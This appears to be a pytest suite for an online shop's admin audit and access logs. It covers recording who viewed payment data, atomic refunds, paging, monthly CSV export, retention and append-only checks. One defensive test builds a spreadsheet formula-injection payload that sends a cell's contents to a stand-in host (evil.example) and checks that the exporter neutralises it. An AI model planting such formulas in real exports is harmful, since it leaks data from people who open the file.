"""Who changed what and who saw whose data: with the change or not at all, page by page, and as a file."""

import ast
import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio
from sqlalchemy import delete, func, insert, select, update

from app.audit import service as audit
from app.audit import store
from app.audit.export import RISKY, neutral, write_csv
from app.audit.report import month_of
from app.audit.service import KEPT, LABELS, PAGE, Actor
from app.audit.store import Access
from app.core.clock import to_kst
from app.core.errors import DatabaseUnavailableError
from app.models import access_log, audit_log, refunds
from app.operators import service as operators
from tests.buyer import Buyer, attempts, stand_of
from tests.desk import changes_of, doors, text
from tests.goods import mug
from tests.shop import Shop, Visitor
from tests.toss_stand import Stand
from tests.village import COMMAND_LINE, Person, hana, run

pytestmark = pytest.mark.real_first

ROOT = Path(__file__).parent.parent.parent.parent

# Every page of operators, and what it shows of people. A new one must be added here.
NOTED = {
    "/admin/payments": "orders that wait for a person",
    "/admin/payments/1": "one order's payment",
    "/admin/access-log.csv": "the export is noted itself",
}
NOT_NOTED = {
    "/admin/partials": "samples",
    "/admin/audit-log": "what operators did; of shoppers it has row numbers only",
    "/admin/access-log": "the notes themselves; to note their reading would only repeat them",
    "/admin/factors": "one's own",
    "/admin/factors/totp": "one's own",
    "/admin/factors/recovery-codes": "one's own",
}


@pytest_asyncio.fixture(loop_scope="session")
async def stand(shop: Shop) -> AsyncIterator[Stand]:
    shop.m.toss.breaker.answered()
    async with stand_of(shop) as stand:
        yield stand


@pytest_asyncio.fixture(loop_scope="session")
async def person(shop: Shop) -> Person:
    """Somebody who runs the shop."""
    return await hana(shop.m)


@pytest_asyncio.fixture(loop_scope="session")
async def desk(shop: Shop, person: Person) -> Visitor:
    return await run(shop, person)


async def paid(shop: Shop, stand: Stand) -> tuple[str, int]:
    buyer = Buyer(shop, shop.visitor(), stand)
    order_no = await buyer.order((await mug(shop.m), 1))
    await buyer.pay(order_no)
    return order_no, (await attempts(shop, order_no))[0].web_payment_id


async def accesses_of(shop: Shop, person: Person) -> list[Any]:
    query = (
        select(access_log).where(access_log.c.user_id == person.user_id).order_by(access_log.c.access_log_id)
    )
    async with shop.m.db.read() as tx:
        return list(await tx.execute(query))


def test_every_page_is_either_noted_or_shows_nobodys_data() -> None:
    assert {url for method, url in doors("operator") if method == "GET"} == set(NOTED) | set(NOT_NOTED)


async def test_whose_payment_was_seen_by_whom_when_and_from_where_is_noted(
    shop: Shop, stand: Stand, person: Person, desk: Visitor
) -> None:
    order_no, number = await paid(shop, stand)
    await desk.get(f"/admin/payments/{number}")
    [row] = await accesses_of(shop, person)
    assert (row.signup_id, row.subject, row.what) == (person.signup_id, order_no, "결제와 환불 내역")
    assert row.address
    assert abs(row.created_at - shop.m.clock.now()) < timedelta(minutes=1)


async def test_a_list_notes_everybody_in_it(shop: Shop, stand: Stand, person: Person, desk: Visitor) -> None:
    buyer = Buyer(shop, shop.visitor(), stand)
    order_no = await buyer.order((await mug(shop.m), 1))
    await stand.fault("other_amount")
    await buyer.pay(order_no)
    page = await text(await desk.get("/admin/payments"))
    [row] = await accesses_of(shop, person)
    assert row.what == "확인이 필요한 결제 목록"
    shown = set(re.findall(r">(\d{8}-\w{7})</a>", page))
    assert order_no in shown
    assert set(row.subject.split(", ")) == shown


async def test_what_cannot_be_noted_is_not_shown(
    shop: Shop, stand: Stand, desk: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    order_no, number = await paid(shop, stand)

    async def full(*_: object) -> None:
        raise DatabaseUnavailableError("the disk is full")

    monkeypatch.setattr(store, "insert_access", full)
    answer = await desk.get(f"/admin/payments/{number}")
    assert answer.status_code == 503
    assert order_no not in await text(answer)


async def test_a_refund_and_its_note_are_one(
    shop: Shop, stand: Stand, person: Person, desk: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, number = await paid(shop, stand)
    page = await text(await desk.get(f"/admin/payments/{number}"))
    nonce = page.split('name="nonce" value="')[1][:32]
    form: dict[str, Any] = {"nonce": nonce, "amount": "1000", "reason": "단순 변심"}
    insert_change = store.insert_change

    async def full(*_: object) -> None:
        raise DatabaseUnavailableError("the disk is full")

    monkeypatch.setattr(store, "insert_change", full)
    assert (await desk.post(f"/admin/payments/{number}/refunds", **form)).status_code == 503
    async with shop.m.db.read() as tx:
        assert (await tx.execute(select(refunds).where(refunds.c.refund_id == nonce))).first() is None
    monkeypatch.setattr(store, "insert_change", insert_change)
    for _ in range(2):  # and pressed twice it is one refund, with one note
        assert (await desk.post(f"/admin/payments/{number}/refunds", **form)).status_code == 303
    noted = [row for row in await changes_of(shop, person) if row.action == "refund.requested"]
    assert [(row.subject, row.detail) for row in noted] == [(f"결제 {number}", "1,000원 · 단순 변심")]


async def test_asking_toss_again_is_noted_though_toss_is_away(
    shop: Shop, stand: Stand, person: Person, desk: Visitor
) -> None:
    _, number = await paid(shop, stand)
    await stand.fault("html_before", on="lookup")
    assert (await desk.post(f"/admin/payments/{number}/check")).status_code == 503
    last = (await changes_of(shop, person))[-1]
    assert (last.action, last.subject) == ("payment.asked", f"결제 {number}")


async def test_a_refund_the_form_refuses_is_not_noted(
    shop: Shop, stand: Stand, person: Person, desk: Visitor
) -> None:
    _, number = await paid(shop, stand)
    form: dict[str, Any] = {"nonce": "0" * 31 + "1", "amount": "15001", "reason": "x"}
    assert (await desk.post(f"/admin/payments/{number}/refunds", **form)).status_code == 422
    assert "refund.requested" not in [row.action for row in await changes_of(shop, person)]


async def test_the_pages_show_the_newest_first_and_lead_to_the_rest(
    shop: Shop, person: Person, desk: Visitor
) -> None:
    actor = Actor(person.user_id, person.signup_id, "192.0.2.7")

    async def fill(tx: Any) -> None:
        for number in range(PAGE + 5):
            await audit.note_change(tx, actor, "payment.asked", f"결제 {number} 번째", "<b>&")
            await audit.note_access(tx, actor, [f"20261127-{number:07}"], "결제와 환불 내역")

    await shop.m.db.retrying(fill)
    for url, first, last in (
        ("/admin/audit-log", f"결제 {PAGE + 4} 번째", "결제 4 번째"),
        ("/admin/access-log", f"20261127-{PAGE + 4:07}", f"20261127-{4:07}"),
    ):
        page = await text(await desk.get(url))
        assert first in page
        assert last not in page
        assert "<b>" not in page.partition("<main")[2]
        older = re.search(rf'href="({url}\?before=\d+)"', page)
        assert older
        page = await text(await desk.get(older[1]))
        assert last in page
        assert first not in page
        assert f'href="{url}"' in page.partition("<main")[2]
        assert "더 오래된 기록이 없습니다" in await text(await desk.get(f"{url}?before=1"))
        for junk in ("x", "-1", "0", "9" * 30, "%D9%A3", "1%27"):
            assert (await desk.get(f"{url}?before={junk}")).status_code == 200


async def test_a_month_is_handed_out_as_a_file_and_that_is_noted(
    shop: Shop, stand: Stand, person: Person, desk: Visitor
) -> None:
    order_no, number = await paid(shop, stand)
    await desk.get(f"/admin/payments/{number}")
    month = f"{to_kst(shop.m.clock.now()):%Y-%m}"
    answer = await desk.get(f"/admin/access-log.csv?month={month}")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="access-log-{month}.csv"'
    assert answer.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO((await text(answer)).removeprefix("\ufeff"))))
    assert [cell for row in rows for cell in row].count(order_no) == 1
    assert rows[-1][2:] == [person.signup_id, rows[-1][3], month, "접속 기록 내려받기"]
    assert [row.what for row in await accesses_of(shop, person)][-1] == "접속 기록 내려받기"


@pytest.mark.parametrize(
    "month", ["", "2026", "2026-13", "2026-00", "1999-01", "x", "2026-11-01", quote("٢٠٢٦-11")]
)
async def test_a_month_that_is_none_is_refused_in_words(desk: Visitor, month: str) -> None:
    answer = await desk.get(f"/admin/access-log.csv?month={month}")
    assert answer.status_code == 422
    assert "달을 2026-11처럼" in await text(answer)


async def test_a_long_month_is_handed_out_whole(
    shop: Shop, person: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(audit, "CHUNK", 3)
    row = {"user_id": person.user_id, "signup_id": person.signup_id, "address": "x", "what": "y"}
    moments = [datetime(2031, 1, 31, 15) + timedelta(days=day) for day in range(-1, 30)]  # noqa: DTZ001 - UTC
    rows = [row | {"subject": f"{moment:%m-%d}", "created_at": moment} for moment in moments]
    async with shop.m.db.write() as tx:
        await tx.execute(insert(access_log), rows)
    actor = Actor(person.user_id, person.signup_id, "x")
    written = await audit.export_accesses(shop.m, actor, date(2031, 2, 1))
    subjects = [row[4] for row in csv.reader(io.StringIO(written))][1:]
    assert subjects == [f"{moment:%m-%d}" for moment in moments[1:29]]  # February, as Korea counts it
    async with shop.m.db.write() as tx:
        await tx.execute(delete(access_log).where(access_log.c.created_at > datetime(2031, 1, 1)))  # noqa: DTZ001


@pytest.mark.parametrize("sign", RISKY)
def test_no_cell_of_the_file_is_a_formula(sign: str) -> None:
    formula = f'{sign}HYPERLINK("http://evil.example?"&A1,"x")'
    seen_at = datetime(2026, 11, 27)  # noqa: DTZ001 - naive UTC
    row = Access(1, formula, f" {formula}", formula, formula, seen_at)
    [_, cells] = list(csv.reader(io.StringIO(write_csv([row]))))
    assert [cell for cell in cells if cell.lstrip(" ").startswith(RISKY)] == []
    assert cells[2] == f"'{formula}"
    assert neutral("20261127-7K3MPX2") == "20261127-7K3MPX2"
    assert neutral("") == ""


async def test_accesses_are_kept_for_more_than_two_years_and_then_forgotten(
    shop: Shop, person: Person, desk: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert timedelta(days=2 * 365) < KEPT < timedelta(days=3 * 365)
    monkeypatch.setattr(audit, "CHUNK", 2)
    actor = Actor(person.user_id, person.signup_id, "x")
    for days in range(5):
        await shop.m.db.retrying(lambda tx, days=days: audit.note_access(tx, actor, [f"old {days}"], "y"))  # type: ignore[misc]
    async with shop.m.db.write() as tx:
        mine = access_log.c.user_id == person.user_id
        old = mine & access_log.c.subject.startswith("old")
        await tx.execute(update(access_log).where(old).values(created_at=shop.m.clock.now() - KEPT))
        keep = mine & (access_log.c.subject == "old 4")
        a_day_less = shop.m.clock.now() - KEPT + timedelta(days=1)
        await tx.execute(update(access_log).where(keep).values(created_at=a_day_less))
    await audit.purge_accesses(shop.m)
    assert [row.subject for row in await accesses_of(shop, person)] == ["old 4"]


async def test_the_monthly_review_says_what_a_person_should_ask_about(shop: Shop, person: Person) -> None:
    row = {"user_id": person.user_id, "signup_id": person.signup_id, "address": "192.0.2.7"}
    seen = [
        ("2033-03-09 03:00", "결제와 환불 내역"),  # noon in Korea
        ("2033-03-09 04:00", "결제와 환불 내역"),
        ("2033-03-09 17:30", "확인이 필요한 결제 목록"),  # half past two at night
        ("2033-03-10 03:00", "접속 기록 내려받기"),
        ("2033-03-31 15:00", "of April, in Korea"),
    ]
    async with shop.m.db.write() as tx:
        rows = [
            row | {"subject": "s", "what": what, "created_at": datetime.fromisoformat(at)}
            for at, what in seen
        ]
        await tx.execute(insert(access_log), rows)
        note = row | {"subject": "s", "detail": "", "created_at": datetime.fromisoformat(seen[0][0])}
        await tx.execute(insert(audit_log), [note | {"action": "operator.refused"}] * 3)
    said = await audit.review_month(shop.m, date(2033, 3, 1))
    assert "Access to personal data in 2033-03 (Korean time)\n4 accesses, 3 changes, 1 people\n" in said
    asked = said.partition("To ask about\n")[2]
    assert f"  at night      1  {person.signup_id}  확인이 필요한 결제 목록\n" in asked
    assert f"  exported      1  {person.signup_id}\n" in asked
    assert f"  refused       3  second factors of {person.signup_id}\n" in asked
    assert "  seen          2  결제와 환불 내역\n" in said
    assert "  from          4  192.0.2.7\n" in said
    assert "April" not in said
    assert "  nothing\n" in await audit.review_month(shop.m, date(2034, 1, 1))
    async with shop.m.db.write() as tx:
        await tx.execute(delete(access_log).where(access_log.c.user_id == person.user_id))
        await tx.execute(delete(audit_log).where(audit_log.c.user_id == person.user_id))


@pytest.mark.parametrize(
    ("month", "start", "end"),
    [
        (date(2026, 11, 1), "2026-10-31 15:00", "2026-11-30 15:00"),
        (date(2026, 12, 1), "2026-11-30 15:00", "2026-12-31 15:00"),
    ],
)
def test_a_month_begins_and_ends_at_midnight_in_korea(month: date, start: str, end: str) -> None:
    span = month_of(month)
    assert (f"{span.start:%Y-%m-%d %H:%M}", f"{span.end:%Y-%m-%d %H:%M}") == (start, end)


async def test_what_is_done_at_the_command_line_is_noted_too(shop: Shop, person: Person) -> None:
    await operators.disable(shop.m, COMMAND_LINE, person.signup_id)
    await operators.enable(shop.m, COMMAND_LINE, person.signup_id)
    await operators.reset_factors(shop.m, COMMAND_LINE, person.signup_id)
    query = (
        select(audit_log).where(audit_log.c.subject == person.signup_id).order_by(audit_log.c.audit_log_id)
    )
    async with shop.m.db.read() as tx:
        rows = list(await tx.execute(query))
    deeds = ["created", "disabled", "enabled", "factors_reset"]
    assert [row.action for row in rows] == [f"operator.{deed}" for deed in deeds]
    assert {(row.user_id, row.signup_id, row.address) for row in rows} == {(None, "root", "command line")}


def test_every_action_has_a_word_and_every_word_an_action() -> None:
    code = "".join(path.read_text() for path in (ROOT / "app").rglob("*.py") if path.parent.name != "audit")
    assert {action for action in LABELS if f'"{action}"' not in code} == set()


def test_the_logs_are_only_added_to_so_that_nobody_can_tidy_up_behind_themselves() -> None:
    """The one exception: accesses kept as long as the law asks are deleted by their age."""
    found = []
    for path in sorted((ROOT / "app").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and ast.unparse(node.func).split(".")[-1] in {
                "update",
                "delete",
                "upsert",
            }:
                about = ast.unparse(node)
                if "audit_log" in about or "access_log" in about:
                    found.append((path.name, about))
    assert found == [("store.py", "delete(access_log)")]


async def test_reading_a_page_leaves_the_rest_as_it_is(shop: Shop, stand: Stand, desk: Visitor) -> None:
    """A look is noted, and that is all a GET may write."""
    _, number = await paid(shop, stand)
    count = select(func.count()).select_from(audit_log)
    async with shop.m.db.read() as tx:
        before = (await tx.execute(count)).scalar_one()
    for url in (
        "/admin",
        "/admin/audit-log",
        "/admin/access-log",
        "/admin/factors",
        f"/admin/payments/{number}",
    ):
        assert (await desk.get(url)).status_code in {200, 303}
    async with shop.m.db.read() as tx:
        assert (await tx.execute(count)).scalar_one() == before
